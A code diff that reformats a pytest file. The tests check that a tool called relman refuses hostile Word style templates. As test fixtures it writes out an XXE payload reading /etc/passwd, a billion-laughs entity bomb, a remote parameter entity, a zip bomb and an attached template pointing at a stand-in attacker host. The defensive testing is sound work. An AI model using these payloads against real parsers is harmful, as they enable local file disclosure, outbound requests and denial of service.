@@ -38,10 +38,17 @@ def _valid_docx() -> bytes:
 
 def _rebuilt(replace: dict[str, bytes], *, compression: dict[str, int] | None = None) -> bytes:
     out = io.BytesIO()
-    with zipfile.ZipFile(io.BytesIO(_valid_docx())) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+    with (
+        zipfile.ZipFile(io.BytesIO(_valid_docx())) as src,
+        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
+    ):
         for info in src.infolist():
             data = replace.get(info.filename, src.read(info))
-            dst.writestr(info.filename, data, compress_type=(compression or {}).get(info.filename, zipfile.ZIP_DEFLATED))
+            dst.writestr(
+                info.filename,
+                data,
+                compress_type=(compression or {}).get(info.filename, zipfile.ZIP_DEFLATED),
+            )
         for name in set(replace) - set(src.namelist()):
             dst.writestr(name, replace[name])
     return out.getvalue()
@@ -67,70 +74,126 @@ def _unknown_method() -> bytes:
     return bytes(data)
 
 
-XXE = (b'<?xml version="1.0"?><!DOCTYPE w:styles [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
-       b'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&secret;</w:styles>')
-LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
-          + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
-                     for i in range(1, 10))
-          + b']><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&lol9;</w:document>')
-PARAMETER_ENTITY = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % remote SYSTEM "http://example.invalid/x.dtd">'
-                    b"%remote;]><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"/>")
+XXE = (
+    b'<?xml version="1.0"?><!DOCTYPE w:styles [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
+    b'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&secret;</w:styles>'
+)
+LAUGHS = (
+    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
+    + b"".join(
+        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
+        for i in range(1, 10)
+    )
+    + b']><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&lol9;</w:document>'
+)
+PARAMETER_ENTITY = (
+    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % remote SYSTEM "http://example.invalid/x.dtd">'
+    b'%remote;]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
+)
 
 REFUSED = {
-    "malformed document.xml": (lambda: _rebuilt({"word/document.xml": b"<w:document><w:body>"}),
-                               "word/document.xml is not well-formed XML"),
-    "external entity (XXE)": (lambda: _rebuilt({"word/styles.xml": XXE}), "word/styles.xml declares a DTD"),
-    "entity expansion": (lambda: _rebuilt({"word/document.xml": LAUGHS}), "word/document.xml declares a DTD"),
-    "remote parameter entity": (lambda: _rebuilt({"word/document.xml": PARAMETER_ENTITY}), "declares a DTD"),
+    "malformed document.xml": (
+        lambda: _rebuilt({"word/document.xml": b"<w:document><w:body>"}),
+        "word/document.xml is not well-formed XML",
+    ),
+    "external entity (XXE)": (
+        lambda: _rebuilt({"word/styles.xml": XXE}),
+        "word/styles.xml declares a DTD",
+    ),
+    "entity expansion": (
+        lambda: _rebuilt({"word/document.xml": LAUGHS}),
+        "word/document.xml declares a DTD",
+    ),
+    "remote parameter entity": (
+        lambda: _rebuilt({"word/document.xml": PARAMETER_ENTITY}),
+        "declares a DTD",
+    ),
     "corrupt deflate stream": (_corrupt_deflate, "word/styles.xml is damaged"),
-    "bzip2 compression": (lambda: _rebuilt({}, compression={"word/styles.xml": zipfile.ZIP_BZIP2}),
-                          "word/styles.xml uses a compression Word documents do not use"),
+    "bzip2 compression": (
+        lambda: _rebuilt({}, compression={"word/styles.xml": zipfile.ZIP_BZIP2}),
+        "word/styles.xml uses a compression Word documents do not use",
+    ),
     "unknown compression method": (_unknown_method, "word/styles.xml"),
     "not a zip at all": (lambda: b"PK\x03\x04 this is not a zip", "is not a Word document"),
     "empty file": (lambda: b"", "is not a Word document"),
-    "no main document": (lambda: _rebuilt({"[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'}),
-                         "is not a Word document"),
+    "no main document": (
+        lambda: _rebuilt(
+            {
+                "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
+            }
+        ),
+        "is not a Word document",
+    ),
 }
 
 
 @pytest.mark.parametrize("kind", list(REFUSED))
-def test_a_hostile_template_is_one_line_and_no_document(demo: tuple[Path, str], tmp_path: Path, kind: str) -> None:
+def test_a_hostile_template_is_one_line_and_no_document(
+    demo: tuple[Path, str], tmp_path: Path, kind: str
+) -> None:
     build, expected = REFUSED[kind]
     template = tmp_path / "style.docx"
     template.write_bytes(build())
     out = tmp_path / "notes.docx"
-    rc, _, err = run("--plan", str(demo[0]), "export", "notes", demo[1], str(out), "--template", str(template))
+    rc, _, err = run(
+        "--plan", str(demo[0]), "export", "notes", demo[1], str(out), "--template", str(template)
+    )
     assert rc == 2 and err.count("\n") == 1 and "Traceback" not in err
     assert err.startswith("relman: the style template style.docx") and expected in err, err
     assert not out.exists()
 
 
-def test_a_zip_bomb_is_refused_before_it_is_unpacked(demo: tuple[Path, str], tmp_path: Path,
-                                                     monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_zip_bomb_is_refused_before_it_is_unpacked(
+    demo: tuple[Path, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setattr(docx_template, "MAX_UNPACKED", 1024 * 1024)
     template = tmp_path / "bomb.docx"
     template.write_bytes(_rebuilt({"word/media/zeros.bin": bytes(4 * 1024 * 1024)}))
-    rc, _, err = run("--plan", str(demo[0]), "export", "notes", demo[1], str(tmp_path / "n.docx"), "--template", str(template))
+    rc, _, err = run(
+        "--plan",
+        str(demo[0]),
+        "export",
+        "notes",
+        demo[1],
+        str(tmp_path / "n.docx"),
+        "--template",
+        str(template),
+    )
     assert rc == 2 and "unpacks to more than 1 MB" in err
 
 
-def test_an_attached_template_on_a_server_is_dropped_and_the_styles_kept(demo: tuple[Path, str], tmp_path: Path) -> None:
+def test_an_attached_template_on_a_server_is_dropped_and_the_styles_kept(
+    demo: tuple[Path, str], tmp_path: Path
+) -> None:
     valid = _valid_docx()
     with zipfile.ZipFile(io.BytesIO(valid)) as z:
         settings = z.read("word/settings.xml").decode()
         styles = z.read("word/styles.xml").decode()
-    settings = settings.replace("<w:zoom", f'<w:attachedTemplate xmlns:r="{R_NS}" r:id="rIdEvil"/><w:zoom', 1)
-    rels = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
-            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-            f'<Relationship Id="rIdEvil" Type="{ATTACHED}" Target="http://attacker.invalid/t.dotm" TargetMode="External"/>'
-            f'<Relationship Id="rIdFile" Type="{ATTACHED}" Target="file:///etc/passwd" TargetMode="External"/>'
-            f"</Relationships>")
+    settings = settings.replace(
+        "<w:zoom", f'<w:attachedTemplate xmlns:r="{R_NS}" r:id="rIdEvil"/><w:zoom', 1
+    )
+    rels = (
+        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rIdEvil" Type="{ATTACHED}" Target="http://attacker.invalid/t.dotm" TargetMode="External"/>'
+        f'<Relationship Id="rIdFile" Type="{ATTACHED}" Target="file:///etc/passwd" TargetMode="External"/>'
+        f"</Relationships>"
+    )
     styles = styles.replace('w:styleId="Heading1"', 'w:styleId="Heading1"', 1)
     template = tmp_path / "corporate.docx"
-    template.write_bytes(_rebuilt({"word/settings.xml": settings.encode(), "word/_rels/settings.xml.rels": rels.encode(),
-                                   "word/styles.xml": styles.encode()}))
+    template.write_bytes(
+        _rebuilt(
+            {
+                "word/settings.xml": settings.encode(),
+                "word/_rels/settings.xml.rels": rels.encode(),
+                "word/styles.xml": styles.encode(),
+            }
+        )
+    )
     out = tmp_path / "notes.docx"
-    rc, _, err = run("--plan", str(demo[0]), "export", "notes", demo[1], str(out), "--template", str(template))
+    rc, _, err = run(
+        "--plan", str(demo[0]), "export", "notes", demo[1], str(out), "--template", str(template)
+    )
     assert (rc, err) == (0, "")
     with zipfile.ZipFile(out) as z:
         everything = b"".join(z.read(n) for n in z.namelist() if n.endswith((".xml", ".rels")))
